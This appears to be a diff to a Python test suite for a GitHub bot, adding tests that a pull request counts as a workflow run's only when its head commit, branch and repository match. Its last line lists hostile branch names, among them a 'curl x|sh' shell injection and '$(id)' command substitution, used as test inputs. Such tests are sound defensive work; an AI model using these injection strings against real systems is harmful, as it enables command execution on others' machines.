@@ -1,8 +1,10 @@
 """What the trusted half reads: whose result an artifact is, files of the base, who set a label."""
 
 import dataclasses
+import json
 from datetime import UTC, datetime
 
+import httpx
 import pytest
 
 from bot.errors import PublishError
@@ -165,6 +167,40 @@ def test_pulls_of_run__foreign_pull_request_is_named(github: GitHubFake):
     run = dataclasses.replace(run_of(github, 6), pull_numbers=(5,))
 
     assert client(github).pulls_of_run(run) == ()
+
+
+@pytest.mark.parametrize(
+    "other", [{"head_sha": "d" * 40}, {"head_branch": "other"}, {"head_repository": "eve/shop"}], ids=str
+)
+def test_pulls_of_run__measured_something_else(github: GitHubFake, other: dict[str, str]):
+    """A pull request is a run's only if commit, branch and repository of its head are those that were measured (T-A1)."""
+    github.open_pull()
+    run = run_of(github)
+
+    assert [pull.number for pull in client(github).pulls_of_run(run)] == [5]
+    assert client(github).pulls_of_run(dataclasses.replace(run, **other)) == ()
+
+
+def test_pulls_of_run__into_another_repository(github_fast: GitHubFake):
+    """A pull request that GitHub says is into another repository is not this one's (T-A1)."""
+    github_fast.open_pull()
+    run = run_of(github_fast)
+    told = httpx.get(f"{github_fast.url}/repos/octo/shop/pulls/5", headers={"Authorization": "Bearer write-token"})
+    elsewhere = told.json()
+    elsewhere["base"]["repo"]["full_name"] = "octo/store"
+    headers = {"Content-Type": "application/json"}
+    github_fast.fail(Fault("^GET .*/pulls/5", status=200, headers=headers, body=json.dumps(elsewhere), times=-1))
+
+    assert client(github_fast).pull(5).base_repository == "octo/store"
+    assert client(github_fast).pulls_of_run(run) == ()
+
+
+def test_pulls_of_run__of_a_fork_that_is_gone(github: GitHubFake):
+    """A run that GitHub tells no origin of has no pull request (T-A1)."""
+    github.open_pull(5, fork="eve")
+
+    assert client(github).pulls_of_run(dataclasses.replace(run_of(github, 5), head_repository="")) == ()
+    assert github.count("GET /repos/octo/shop/pulls?") == 0
 
 
 @pytest.mark.parametrize("branch", ['a";curl x|sh;#', "$(id)", "grow&state=all", "ü/é?#%2e", "a b"])
